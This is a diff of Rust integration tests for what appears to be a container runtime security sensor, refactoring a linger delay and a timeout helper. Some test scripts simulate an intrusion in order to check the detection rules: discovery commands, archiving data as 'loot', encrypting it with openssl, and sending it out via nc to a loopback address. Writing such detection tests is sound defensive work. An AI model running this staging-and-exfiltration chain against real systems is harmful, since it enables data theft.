@@ -13,12 +13,12 @@ use std::{
 use sensor_tests::{RuncContainer, Sensor, container_id, unique_dir};
 use serde_json::Value;
 
-/// Ends each container script: runtime state (runc's state.json, the OCI
-/// bundle) goes with the container, and a sensor starved of CPU by the
-/// parallel suite may read a 20 ms container's first exec only after that.
-/// Short containers then keep their id but lose mount metadata (docs/RULES.md,
-/// blind spots); these tests are about the rules, so the containers linger.
-const LINGER: &str = "sleep 1";
+// Container scripts end with `sensor_tests::linger()`: runtime state
+// (runc's state.json, the OCI bundle) goes with the container, and a sensor
+// starved of CPU by the parallel suite may read a 20 ms container's first
+// exec only after that. Short containers then keep their id but lose mount
+// metadata (docs/RULES.md, blind spots); these tests are about the rules,
+// so the containers linger.
 
 /// Alerts whose container is `id`.
 fn alerts_in(sensor: &mut Sensor, id: &str) -> Vec<Value> {
@@ -130,7 +130,8 @@ fn staging_archive_encrypt_egress_in_a_container() {
         "/bin/id; /bin/uname -a >> /data/discovery.txt; /bin/hostname >> /data/discovery.txt; \
          tar czf /tmp/loot.tgz /data; \
          openssl enc -aes-256-cbc -pbkdf2 -k hunter2 -in /tmp/loot.tgz -out /tmp/loot.enc; \
-         nc 127.0.0.2 {port} < /tmp/loot.enc; {LINGER}"
+         nc 127.0.0.2 {port} < /tmp/loot.enc; {}",
+        sensor_tests::linger()
     );
     let ctr = RuncContainer::with_config(&id, &format!("/docker/{id}"), &script, |c| {
         RuncContainer::host_network(c);
@@ -273,7 +274,7 @@ fn discovery_script_from_a_host_folder_in_docker() {
     let script = scripts.path().join("Discovery.sh");
     std::fs::write(
         &script,
-        format!("#!/bin/sh\n/bin/id\n/bin/uname -a > /scripts/out.txt\n/bin/hostname >> /scripts/out.txt\n{LINGER}\n"),
+        format!("#!/bin/sh\n/bin/id\n/bin/uname -a > /scripts/out.txt\n/bin/hostname >> /scripts/out.txt\n{}\n", sensor_tests::linger()),
     )
     .unwrap();
     Command::new("chmod")
@@ -450,7 +451,7 @@ fn sighup_reloads_rules_and_refuses_a_bad_set() {
             .filter(|a| a["kind"] == "alert" && a["rule"]["id"] == "marker-one")
             .count()
     };
-    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    let deadline = std::time::Instant::now() + sensor_tests::patience(10);
     while count_one() < 2 {
         assert!(
             std::time::Instant::now() < deadline,
@@ -510,9 +511,14 @@ fn container_started_with_a_runtime_socket_alerts_at_start() {
     let sock = sock_dir.path().join("docker.sock");
     std::fs::write(&sock, b"").unwrap();
     let id = container_id(0x35);
-    let ctr = RuncContainer::with_config(&id, &format!("/docker/{id}"), LINGER, |c| {
-        RuncContainer::bind_mount(c, &sock, "/var/run/docker.sock");
-    });
+    let ctr = RuncContainer::with_config(
+        &id,
+        &format!("/docker/{id}"),
+        &sensor_tests::linger(),
+        |c| {
+            RuncContainer::bind_mount(c, &sock, "/var/run/docker.sock");
+        },
+    );
     let mut sensor = Sensor::start(&[]);
     ctr.run();
     let alerts = assert_fired(
